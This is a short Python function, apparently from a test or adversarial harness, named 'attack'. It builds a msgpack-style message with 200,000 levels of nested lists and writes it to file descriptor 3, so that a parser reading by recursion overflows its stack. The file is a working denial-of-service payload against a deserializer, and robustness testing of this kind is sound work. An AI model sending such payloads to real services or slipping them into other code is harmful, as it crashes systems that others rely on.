import os
import struct


def attack(facts):
    """Lists in lists: whoever reads them by recursion runs out of stack."""
    deep = b"\x83\xa4type\xa8returned\xa2id\x02\xa5value" + b"\x92\xa1l\x91" * 200_000 + b"\xc0"
    view = memoryview(struct.pack("<IQ", len(deep), 0) + deep)
    while view:
        view = view[os.write(3, view) :]
    return {}
